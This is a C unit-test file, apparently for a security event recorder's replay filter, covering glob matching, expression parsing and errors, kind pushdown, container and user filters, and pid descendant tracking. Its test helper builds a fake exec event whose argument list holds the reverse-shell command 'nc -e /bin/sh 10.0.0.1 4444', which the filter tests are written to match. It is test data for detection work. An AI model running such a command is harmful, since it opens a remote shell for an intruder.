/* SPDX-License-Identifier: Apache-2.0 */
/* The filter language, kind globs, pushdown decisions and pid tracking, on
 * in-memory events and rings (no file needed for what is tested here). */
#include <errno.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "formats/ring-format.h"
#include "replay/rp-filter.h"
#include "tests/formats/gen.h"

static struct fdr_ring_meta meta_host, meta_web;
static struct rp_ring ring_host, ring_web;
static struct fdr_str argv_sh[3];

static int setup(void **state)
{
	(void)state;
	memset(&meta_host, 0, sizeof(meta_host));
	strcpy(meta_host.hostname, "web01");
	meta_web = meta_host;
	strcpy(meta_web.container_id, "3f2a9c1e5b7d");
	strcpy(meta_web.container_name, "web");
	strcpy(meta_web.image, "nginx:1.25");
	ring_host = (struct rp_ring){ .meta = &meta_host, .host = "web01", .container = "host", .name = "",
				      .image = "", .index = 0, .host_idx = 0, .is_host = true };
	ring_web = (struct rp_ring){ .meta = &meta_web, .host = "web01", .container = "3f2a9c1e5b7d",
				     .name = "web", .image = "nginx:1.25", .index = 1, .host_idx = 0 };
	return 0;
}

static void exec_ev(struct fdr_event *ev, uint64_t t, uint64_t pid, uint64_t ppid, const char *exe)
{
	fdr_event_init(ev, FDR_PROC_EXEC, t);
	fdr_event_set_u(ev, FDR_F_PID, pid);
	fdr_event_set_u(ev, FDR_F_PPID, ppid);
	fdr_event_set_cstr(ev, FDR_F_EXE, exe);
	argv_sh[0] = fdr_str_c("sh");
	argv_sh[1] = fdr_str_c("-c");
	argv_sh[2] = fdr_str_c("id; nc -e /bin/sh 10.0.0.1 4444");
	fdr_event_set_strv(ev, FDR_F_ARGV, argv_sh, 3);
	fdr_event_set_u(ev, FDR_F_UID, 33);
}

static struct rp_filter *expr(const char *text)
{
	struct rp_filter *f;
	struct rp_error err = RP_ERROR_INIT;

	assert_int_equal(rp_filter_new(&f), 0);
	if (rp_filter_add_expr(f, text, &err)) {
		print_error("unexpected parse error at %zu: %s\n", err.col, err.msg);
		fail();
	}
	return f;
}

static bool match(const char *text, const struct rp_ring *r, const struct fdr_event *ev)
{
	struct rp_filter *f = expr(text);
	bool m = rp_filter_event(f, r, ev);

	rp_filter_free(f);
	return m;
}

static void test_glob(void **state)
{
	(void)state;
	assert_true(rp_glob("/bin/*sh", "/bin/bash", 9));
	assert_true(rp_glob("/bin/*sh", "/bin/sh", 7));
	assert_false(rp_glob("/bin/*sh", "/bin/shx", 8));
	assert_true(rp_glob("*", "", 0));
	assert_true(rp_glob("a?c", "abc", 3));
	assert_false(rp_glob("a?c", "ac", 2));
	assert_true(rp_glob("[a-c]x", "bx", 2));
	assert_false(rp_glob("[!a-c]x", "bx", 2));
	assert_true(rp_glob("\\*", "*", 1));
	assert_false(rp_glob("\\*", "a", 1));
	assert_true(rp_glob("*a*b*c*", "xxaxxbxxcxx", 11));
	/* Embedded NUL in the subject is just a byte. */
	assert_true(rp_glob("a*b", "a\0b", 3));
	/* Pathological backtracking stays linear-ish (single-star restart). */
	char s[2000];
	memset(s, 'a', sizeof(s));
	assert_false(rp_glob("*a*a*a*a*a*a*a*b", s, sizeof(s)));
}

static void test_issue_example(void **state)
{
	struct fdr_event ev;

	(void)state;
	exec_ev(&ev, 1000, 10, 1, "/bin/bash");
	const char *e = "kind == \"proc.exec\" && exe ~ \"/bin/*sh\" && container.image ~ \"nginx*\"";
	assert_true(match(e, &ring_web, &ev));
	assert_false(match(e, &ring_host, &ev));
	fdr_event_set_cstr(&ev, FDR_F_EXE, "/usr/bin/curl");
	assert_false(match(e, &ring_web, &ev));
}

static void test_operators(void **state)
{
	struct fdr_event ev;

	(void)state;
	exec_ev(&ev, 5000, 10, 1, "/bin/sh");
	assert_true(match("pid == 10", &ring_web, &ev));
	assert_true(match("pid != 11", &ring_web, &ev));
	assert_true(match("pid < 11 and pid >= 10", &ring_web, &ev));
	assert_false(match("pid > 10", &ring_web, &ev));
	assert_true(match("pid ~ \"1*\"", &ring_web, &ev));
	assert_true(match("argv ~ \"*nc -e*\"", &ring_web, &ev));
	assert_true(match("argv == \"sh -c id; nc -e /bin/sh 10.0.0.1 4444\"", &ring_web, &ev));
	assert_true(match("container.name == \"web\" && host == 'web01'", &ring_web, &ev));
	assert_true(match("container ~ \"3f2a*\"", &ring_web, &ev));
	assert_true(match("container == \"host\"", &ring_host, &ev));
	assert_true(match("!(exe == \"/bin/bash\") || false", &ring_web, &ev));
	assert_true(match("not exe !~ \"/bin/*\"", &ring_web, &ev));
	assert_true(match("exe", &ring_web, &ev));	/* presence */
	assert_false(match("path", &ring_web, &ev));
	/* Absent fields: tests are false, negated tests true. */
	assert_false(match("path == \"/etc\"", &ring_web, &ev));
	assert_true(match("path != \"/etc\"", &ring_web, &ev));
	assert_false(match("dport > 0", &ring_web, &ev));
	assert_false(match("partial", &ring_web, &ev));
	ev.flags = FDR_EVF_PARTIAL;
	assert_true(match("partial == true", &ring_web, &ev));
	assert_true(match("time > \"1970-01-01T00:00:00.000004Z\" && time <= \"@0.000005\"", &ring_web, &ev));
	/* Precedence: && binds tighter than ||. */
	assert_true(match("pid == 1 && pid == 2 || pid == 10", &ring_web, &ev));
	assert_false(match("pid == 1 && (pid == 2 || pid == 10)", &ring_web, &ev));

	struct fdr_event d;
	struct fdr_addr a;
	fdr_event_init(&d, FDR_DOCKER, 1);
	fdr_event_set_cstr(&d, FDR_F_ACTION, "exec_start");
	fdr_event_set_cstr(&d, FDR_F_IMAGE, "redis:7");
	assert_true(match("kind == \"docker.exec_start\" && image == \"redis:7\"", &ring_web, &d));
	assert_false(match("kind == \"docker\"", &ring_web, &d));
	fdr_event_init(&d, FDR_NET_CONNECT, 1);
	fdr_addr_parse(&a, "198.51.100.9");
	fdr_event_set_addr(&d, FDR_F_DST, &a);
	fdr_event_set_u(&d, FDR_F_DPORT, 4444);
	assert_true(match("dst ~ \"198.51.100.*\" && dport == 4444", &ring_web, &d));
	/* Lists other than argv: any element. */
	struct fdr_str ans[2] = { fdr_str_c("10.0.0.1"), fdr_str_c("10.0.0.2") };
	fdr_event_init(&d, FDR_DNS_ANSWER, 1);
	fdr_event_set_strv(&d, FDR_F_ANSWERS, ans, 2);
	assert_true(match("answers == \"10.0.0.2\"", &ring_web, &d));
	assert_false(match("answers == \"10.0.0.1 10.0.0.2\"", &ring_web, &d));
	/* A string with escapes, including a control byte. */
	fdr_event_init(&d, FDR_FILE_CREATE, 1);
	fdr_event_set_cstr(&d, FDR_F_PATH, "/tmp/.\x1b[2J\"x\"");
	assert_true(match("path == \"/tmp/.\\x1b[2J\\\"x\\\"\"", &ring_web, &d));
	assert_true(match("path ~ \"/tmp/.\\x1b\\[2J*\"", &ring_web, &d));
}

static void expect_error(const char *text, size_t col, const char *needle)
{
	struct rp_filter *f;
	struct rp_error err = RP_ERROR_INIT;

	assert_int_equal(rp_filter_new(&f), 0);
	assert_int_equal(rp_filter_add_expr(f, text, &err), -EINVAL);
	if (err.col != col || !strstr(err.msg, needle)) {
		print_error("'%s': got column %zu '%s', want column %zu '%s'\n", text, err.col, err.msg, col,
			    needle);
		fail();
	}
	rp_filter_free(f);
}

static void test_errors(void **state)
{
	(void)state;
	expect_error("", 1, "empty");
	expect_error("kind == ", 9, "expected a value");
	expect_error("knd == \"proc.exec\"", 1, "unknown field 'knd'");
	expect_error("kind == \"proc.exec\" && (exe ~ \"/bin/*sh\"", 41, "expected ')'");
	expect_error("pid == \"x\"", 8, "is a number");
	expect_error("exe == 3", 8, "not a number");
	expect_error("exe < \"a\"", 5, "is a string");
	expect_error("exe == \"abc", 8, "unterminated");
	expect_error("exe == \"a\" junk", 12, "expected '&&'");
	expect_error("exe == \"a\" & pid", 12, "unexpected '&'");
	expect_error("time > \"yesterday\"", 9, "bad time");
	expect_error("exe == \"\\q\"", 9, "unknown escape");
	expect_error("exe == \"\\x00\"", 9, "bad \\x");
	expect_error("pid == 99999999999999999999999", 8, "too large");
	expect_error("partial == 3", 12, "not a number");
	expect_error("exe == \x01", 8, "unexpected byte 0x01");
	/* Deep nesting is refused, not a stack overflow. */
	char deep[400];
	memset(deep, '(', 300);
	strcpy(deep + 300, "pid)");
	struct rp_filter *f;
	struct rp_error err = RP_ERROR_INIT;
	assert_int_equal(rp_filter_new(&f), 0);
	assert_int_equal(rp_filter_add_expr(f, deep, &err), -EINVAL);
	assert_non_null(strstr(err.msg, "nested too deeply"));
	rp_filter_free(f);
}

static void test_kind_pushdown(void **state)
{
	struct rp_filter *f;
	struct rp_error err = RP_ERROR_INIT;
	const uint64_t all = UINT64_MAX;
	const uint64_t files = (1ull << FDR_FILE_CREATE) | (1ull << FDR_FILE_MODIFY) | (1ull << FDR_FILE_DELETE) |
			       (1ull << FDR_FILE_RENAME) | (1ull << FDR_FILE_ATTRIB) | (1ull << FDR_FILE_EXEC) |
			       (1ull << FDR_FILE_OPEN);

	(void)state;
	f = expr("kind == \"proc.exec\" && exe ~ \"/bin/*sh\"");
	assert_int_equal(rp_filter_kinds(f), 1ull << FDR_PROC_EXEC);
	rp_filter_free(f);
	f = expr("kind ~ \"file.*\" || kind == \"rec.gap\"");
	assert_int_equal(rp_filter_kinds(f), files | (1ull << FDR_REC_GAP));
	rp_filter_free(f);
	/* Negation: the kind settles it too (blocks of only proc.exec skip). */
	f = expr("!(kind == \"proc.exec\")");
	assert_int_equal(rp_filter_kinds(f), all & ~(1ull << FDR_PROC_EXEC));
	rp_filter_free(f);
	f = expr("!(kind == \"proc.exec\" && exe ~ \"/bin/*\")");
	assert_int_equal(rp_filter_kinds(f), all);
	rp_filter_free(f);
	f = expr("kind ~ \"docker.exec*\"");
	assert_int_equal(rp_filter_kinds(f), 1ull << FDR_DOCKER);
	rp_filter_free(f);

	assert_int_equal(rp_filter_new(&f), 0);
	assert_int_equal(rp_filter_add_kinds(f, "file.*,docker.exec*", &err), 0);
	assert_int_equal(rp_filter_kinds(f), files | (1ull << FDR_DOCKER));
	struct fdr_block_info b = { .first_ns = 100, .last_ns = 200, .kinds = 1ull << FDR_PROC_EXEC };
	assert_false(rp_filter_block(f, &b));
	b.kinds |= 1ull << FDR_FILE_OPEN;
	assert_true(rp_filter_block(f, &b));
	rp_filter_set_since(f, 201);
	assert_false(rp_filter_block(f, &b));
	rp_filter_set_since(f, 200);
	rp_filter_set_until(f, 1000);
	assert_true(rp_filter_block(f, &b));
	rp_filter_set_until(f, 99);
	assert_false(rp_filter_block(f, &b));
	rp_filter_set_until(f, UINT64_MAX);
	/* Per event: docker actions by glob. */
	struct fdr_event d;
	fdr_event_init(&d, FDR_DOCKER, 300);
	fdr_event_set_cstr(&d, FDR_F_ACTION, "exec_start");
	assert_true(rp_filter_event(f, &ring_host, &d));
	fdr_event_set_cstr(&d, FDR_F_ACTION, "start");
	assert_false(rp_filter_event(f, &ring_host, &d));
	rp_filter_free(f);

	assert_int_equal(rp_filter_new(&f), 0);
	assert_int_equal(rp_filter_add_kinds(f, "proc.exec,nosuch.*", &err), -EINVAL);
	assert_int_equal(err.col, 11);
	assert_non_null(strstr(err.msg, "nosuch.*"));
	rp_filter_free(f);
}

static void test_ring_parts(void **state)
{
	struct rp_filter *f;

	(void)state;
	assert_int_equal(rp_filter_new(&f), 0);
	rp_filter_add_container(f, "3f2a");
	assert_true(rp_filter_ring(f, &ring_web));
	/* The host ring stays for docker events about the container only. */
	assert_true(rp_filter_ring(f, &ring_host));
	struct fdr_event ev;
	fdr_event_init(&ev, FDR_DOCKER, 1);
	fdr_event_set_cstr(&ev, FDR_F_ACTION, "start");
	fdr_event_set_cstr(&ev, FDR_F_CONTAINER, "3f2a9c1e5b7d");
	assert_true(rp_filter_event(f, &ring_host, &ev));
	fdr_event_set_cstr(&ev, FDR_F_CONTAINER, "0000");
	assert_false(rp_filter_event(f, &ring_host, &ev));
	exec_ev(&ev, 1, 10, 1, "/bin/sh");
	assert_false(rp_filter_event(f, &ring_host, &ev));
	assert_true(rp_filter_event(f, &ring_web, &ev));
	rp_filter_free(f);
	assert_int_equal(rp_filter_new(&f), 0);
	rp_filter_add_container(f, "we*");
	rp_filter_add_container(f, "host");
	assert_true(rp_filter_ring(f, &ring_web));
	assert_true(rp_filter_ring(f, &ring_host));
	rp_filter_add_image(f, "nginx:*");
	assert_true(rp_filter_ring(f, &ring_web));
	assert_false(rp_filter_ring(f, &ring_host));
	rp_filter_free(f);
	assert_int_equal(rp_filter_new(&f), 0);
	rp_filter_add_container(f, "db");
	assert_false(rp_filter_ring(f, &ring_web));
	rp_filter_add_host(f, "db*");
	assert_false(rp_filter_ring(f, &ring_web));
	rp_filter_free(f);
}

static void test_user(void **state)
{
	struct rp_filter *f;
	struct fdr_event ev;

	(void)state;
	exec_ev(&ev, 1, 10, 1, "/bin/sh");
	assert_int_equal(rp_filter_new(&f), 0);
	rp_filter_add_user(f, "33");
	assert_true(rp_filter_event(f, &ring_web, &ev));
	rp_filter_free(f);
	assert_int_equal(rp_filter_new(&f), 0);
	rp_filter_add_user(f, "admin");
	assert_false(rp_filter_event(f, &ring_web, &ev));
	fdr_event_init(&ev, FDR_SUDO_CMD, 1);
	fdr_event_set_cstr(&ev, FDR_F_USER, "alice");
	fdr_event_set_cstr(&ev, FDR_F_RUNAS, "admin");
	assert_true(rp_filter_event(f, &ring_web, &ev));
	rp_filter_free(f);
}

static void test_descendants(void **state)
{
	struct rp_filter *f;
	struct rp_pidtrack *t;
	struct fdr_event ev;
	struct rp_ring other = ring_host;
	int seen = 0;

	(void)state;
	other.host_idx = 1;	/* same pids on another host must not mix */
	assert_int_equal(rp_filter_new(&f), 0);
	rp_filter_set_pid(f, 100, true);
	assert_true(rp_filter_tracks_pids(f));
	assert_int_equal(rp_pidtrack_new(f, &t), 0);
	struct { const struct rp_ring *r; unsigned kind; uint64_t pid, ppid; bool want; } seq[] = {
		{ &ring_host, FDR_PROC_FORK, 101, 100, true },
		{ &ring_host, FDR_PROC_EXEC, 101, 100, true },
		{ &ring_web, FDR_PROC_FORK, 102, 101, true },	/* into a container, same host */
		{ &other, FDR_PROC_FORK, 102, 5, false },
		{ &other, FDR_PROC_EXEC, 103, 102, false },
		{ &ring_host, FDR_PROC_FORK, 200, 1, false },
		{ &ring_web, FDR_PROC_EXIT, 102, 0, true },
		{ &ring_host, FDR_PROC_FORK, 102, 1, false },	/* pid reused by a stranger */
		{ &ring_host, FDR_PROC_EXEC, 100, 1, true },
	};
	for (size_t i = 0; i < sizeof(seq) / sizeof(seq[0]); i++) {
		fdr_event_init(&ev, seq[i].kind, i);
		fdr_event_set_u(&ev, FDR_F_PID, seq[i].pid);
		if (seq[i].ppid)
			fdr_event_set_u(&ev, FDR_F_PPID, seq[i].ppid);
		rp_pidtrack_update(t, seq[i].r, &ev);
		bool m = rp_pidtrack_match(t, seq[i].r, &ev);
		rp_pidtrack_retire(t, seq[i].r, &ev);
		if (m != seq[i].want) {
			print_error("step %zu: got %d\n", i, m);
			fail();
		}
		seen += m;
	}
	assert_int_equal(seen, 5);
	/* Descendants keep process kinds in the pushdown mask. */
	struct rp_error err = RP_ERROR_INIT;
	assert_int_equal(rp_filter_add_kinds(f, "file.*", &err), 0);
	assert_true(rp_filter_kinds(f) & (1ull << FDR_PROC_FORK));
	rp_pidtrack_free(t);
	rp_filter_free(f);
}

/* Patterns the filter matches without the general glob loop (literal with
 * stars at the ends, prefix*suffix, *infix*) must agree with rp_glob() on
 * every string, including ones too short for prefix and suffix together. */
static void test_glob_shapes(void **state)
{
	static const char *pats[] = {
		"", "*", "**", "/bin/sh", "/bin/*", "*sh", "/bin/*sh", "/bin/**sh", "*bin*",
		"**bin**", "ab*ba", "a*", "*a", "*a*", "a*b*c", "*a*b", "/bin/?sh", "[/]bin*",
		"x\\*", "aba", "*/etc/*",
	};
	(void)state;
	static const char *strs[] = {
		"", "a", "ab", "aba", "abba", "ababa", "/bin/sh", "/bin/bash", "/bin/", "/binsh",
		"/usr/bin/sh", "/etc/passwd", "/tmp/etc/x", "abc", "axbxc", "x*", "xy",
	};
	for (size_t i = 0; i < sizeof(pats) / sizeof(pats[0]); i++) {
		char text[128];
		snprintf(text, sizeof(text), "exe ~ \"%s\"", pats[i]);
		struct rp_filter *f = expr(text);
		/* The lexer keeps "\*" as is for the glob. */
		const char *pat = pats[i];
		for (size_t j = 0; j < sizeof(strs) / sizeof(strs[0]); j++) {
			struct fdr_event ev;
			exec_ev(&ev, 1, 1, 0, strs[j]);
			bool want = rp_glob(pat, strs[j], strlen(strs[j]));
			if (rp_filter_event(f, &ring_web, &ev) != want) {
				print_error("pattern '%s' on '%s': want %d\n", pats[i], strs[j], want);
				fail();
			}
		}
		rp_filter_free(f);
	}
}

/* && || ! and parentheses compiled to jumps: every combination of three
 * tests' outcomes against the same formula computed here. */
static void test_boolean_structure(void **state)
{
	static const char *cases[] = {
		"A && B || C", "A || B && C", "!(A || B) && !C", "!(A && !(B || !C))",
		"(A || B) && (B || C) && !(A && C)", "not A or not (B and C) and true",
		"false || A && (B || false)",
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		for (int m = 0; m < 8; m++) {
			int a = m & 1, b = (m >> 1) & 1, c = (m >> 2) & 1, want;
			switch (i) {
			case 0: want = (a && b) || c; break;
			case 1: want = a || (b && c); break;
			case 2: want = !(a || b) && !c; break;
			case 3: want = !(a && !(b || !c)); break;
			case 4: want = (a || b) && (b || c) && !(a && c); break;
			case 5: want = !a || (!(b && c) && 1); break;
			default: want = a && b; break;
			}
			/* A, B, C: pid == 1, ppid == 1, uid == 1 on an event with
			 * those values 1 or 0. */
			char text[256], *o = text;
			for (const char *p = cases[i]; *p; p++) {
				const char *t = *p == 'A' ? "pid == 1" : *p == 'B' ? "ppid == 1" :
						*p == 'C' ? "uid == 1" : NULL;
				if (t) {
					o += sprintf(o, "%s", t);
				} else {
					*o++ = *p;
				}
			}
			*o = '\0';
			struct rp_filter *f = expr(text);
			struct fdr_event ev;
			exec_ev(&ev, 1, (uint64_t)a, (uint64_t)b, "/bin/sh");
			fdr_event_set_u(&ev, FDR_F_UID, (uint64_t)c);
			if (rp_filter_event(f, &ring_web, &ev) != (bool)want) {
				print_error("'%s' with A=%d B=%d C=%d: want %d\n", text, a, b, c, want);
				fail();
			}
			rp_filter_free(f);
		}
	}
}

/* Before decoding: kind, time and pid settle what they can; everything else
 * leaves the event to rp_filter_event(). Checked against rp_filter_event()
 * on real events for every verdict other than "maybe". */
/* A count decodes only rp_filter_fields() (fdr_cursor_project()): on the
 * whole generated mix, every filter gives the same verdict on the
 * projected event as on the full one. */
static void test_fields_projection(void **state)
{
	static const char *const exprs[] = {
		"exe ~ \"/bin/*sh\" || dport == 4444",
		"image ~ \"nginx*\" && kind != \"docker.create\"",
		"argv ~ \"*job-7*\" && uid == 0",
		"answers == \"10.0.0.7\" || dst == \"10.0.0.9\"",
		"exit_code < 0 && comm == \"bash\"",
		"!(path ~ \"*.bak\") && count >= 3",
		"user == \"alice\" && result != \"success\"",
		"audit_id ~ \"5b6e*-00*\" || sessionid == 5",
		"container ~ \"3f2a*\" && host == \"web01\" && seq > 10",
		"new_path",
	};
	const size_t n = 2000;
	struct blkenc e;
	struct fdr_cursor *full, *proj;
	struct fdr_event *a = malloc(sizeof(*a)), *b = malloc(sizeof(*b));
	struct gen_buf g;

	(void)state;
	assert_non_null(a);
	assert_non_null(b);
	blkenc_init(&e);
	for (size_t i = 0; i < n; i++) {
		gen_event(i, a, &g);
		assert_int_equal(blkenc_add(&e, a), 0);
	}
	blkenc_set_base(&e, 0);
	assert_int_equal(fdr_cursor_new(&full), 0);
	assert_int_equal(fdr_cursor_new(&proj), 0);
	for (size_t x = 0; x < sizeof(exprs) / sizeof(exprs[0]) + 3; x++) {
		struct rp_filter *f;
		uint64_t want[2];
		size_t matched = 0;

		if (x < sizeof(exprs) / sizeof(exprs[0])) {
			f = expr(exprs[x]);
		} else {
			struct rp_error err = RP_ERROR_INIT;

			assert_int_equal(rp_filter_new(&f), 0);
			if (x == sizeof(exprs) / sizeof(exprs[0]))
				rp_filter_add_user(f, "bob");
			else if (x == sizeof(exprs) / sizeof(exprs[0]) + 1)
				assert_int_equal(rp_filter_add_kinds(f, "docker.exec*,file.*", &err), 0);
			else	/* the pid of event 5 */
				rp_filter_set_pid(f, 1000 + gen_mix(5 / 8) % 200, false);
		}
		rp_filter_fields(f, want);
		fdr_cursor_project(proj, want);
		assert_int_equal(fdr_cursor_load_raw(full, e.raw, e.len), 0);
		assert_int_equal(fdr_cursor_load_raw(proj, e.raw, e.len), 0);
		for (size_t i = 0; i < n; i++) {
			const struct rp_ring *r = (i / 7) % 2 ? &ring_web : &ring_host;
			bool m;

			assert_int_equal(fdr_cursor_next(full, a), 1);
			assert_int_equal(fdr_cursor_next(proj, b), 1);
			m = rp_filter_event(f, r, a);
			if (m != rp_filter_event(f, r, b))
				fail_msg("filter %zu, event %zu: %d on the full event", x, i, m);
			matched += m;
		}
		/* the filters are meant to match some events and not all */
		if (matched == 0 || matched == n)
			fail_msg("filter %zu matched %zu of %zu", x, matched, n);
		rp_filter_free(f);
	}
	fdr_cursor_free(full);
	fdr_cursor_free(proj);
	blkenc_release(&e);
	free(a);
	free(b);
}

static void test_pre(void **state)
{
	struct rp_filter *f;
	struct rp_error err = RP_ERROR_INIT;
	uint64_t pid = 42, other = 43;
	struct fdr_event ev;

	(void)state;
	assert_int_equal(rp_filter_new(&f), 0);
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 5, NULL), RP_PRE_YES);
	assert_int_equal(rp_filter_add_kinds(f, "proc.*,docker.exec*", &err), 0);
	rp_filter_set_since(f, 100);
	rp_filter_set_until(f, 200);
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 150, NULL), RP_PRE_YES);
	exec_ev(&ev, 150, 42, 1, "/bin/sh");
	assert_true(rp_filter_event(f, &ring_web, &ev));
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 99, NULL), RP_PRE_NO);
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 201, NULL), RP_PRE_NO);
	exec_ev(&ev, 201, 42, 1, "/bin/sh");
	assert_false(rp_filter_event(f, &ring_web, &ev));
	assert_int_equal(rp_filter_pre(f, FDR_FILE_OPEN, 150, NULL), RP_PRE_NO);
	assert_int_equal(rp_filter_pre(f, FDR_DOCKER, 150, NULL), RP_PRE_MAYBE);	/* the action decides */
	rp_filter_set_pid(f, 42, false);
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 150, &other), RP_PRE_NO);
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 150, &pid), RP_PRE_MAYBE);
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 150, NULL), RP_PRE_MAYBE);
	rp_filter_free(f);
	/* The expression's kinds count; its other tests need the fields. */
	f = expr("kind == \"net.connect\" && dport == 4444");
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 1, NULL), RP_PRE_NO);
	assert_int_equal(rp_filter_pre(f, FDR_NET_CONNECT, 1, NULL), RP_PRE_MAYBE);
	rp_filter_free(f);
	/* Settled by the kind under negation and ||: no, yes, maybe. */
	f = expr("!(kind == \"file.open\") && (kind ~ \"proc.*\" || exe ~ \"/bin/*\")");
	assert_int_equal(rp_filter_pre(f, FDR_FILE_OPEN, 1, NULL), RP_PRE_NO);
	assert_int_equal(rp_filter_pre(f, FDR_PROC_EXEC, 1, NULL), RP_PRE_YES);
	assert_int_equal(rp_filter_pre(f, FDR_NET_CONNECT, 1, NULL), RP_PRE_MAYBE);
	assert_int_equal(rp_filter_pre(f, FDR_DOCKER, 1, NULL), RP_PRE_MAYBE);
	assert_int_equal(rp_filter_kinds(f) & (1ull << FDR_FILE_OPEN), 0);
	assert_true(rp_filter_kinds(f) & (1ull << FDR_NET_CONNECT));
	exec_ev(&ev, 1, 1, 0, "/usr/bin/id");
	assert_true(rp_filter_event(f, &ring_web, &ev));	/* yes means yes */
	ev.kind = FDR_FILE_OPEN;
	assert_false(rp_filter_event(f, &ring_web, &ev));	/* no means no */
	/* A block of only "yes" kinds is counted from its header. */
	struct fdr_block_info b = { .first_ns = 1, .last_ns = 2,
				    .kinds = (1ull << FDR_PROC_EXEC) | (1ull << FDR_PROC_EXIT) };
	assert_true(rp_filter_block_all(f, &b));
	b.kinds |= 1ull << FDR_NET_CONNECT;
	assert_false(rp_filter_block_all(f, &b));
	rp_filter_free(f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_glob),
		cmocka_unit_test(test_glob_shapes),
		cmocka_unit_test(test_boolean_structure),
		cmocka_unit_test(test_issue_example),
		cmocka_unit_test(test_operators),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_kind_pushdown),
		cmocka_unit_test(test_pre),
		cmocka_unit_test(test_fields_projection),
		cmocka_unit_test(test_ring_parts),
		cmocka_unit_test(test_user),
		cmocka_unit_test(test_descendants),
	};
	return cmocka_run_group_tests(tests, setup, NULL);
}
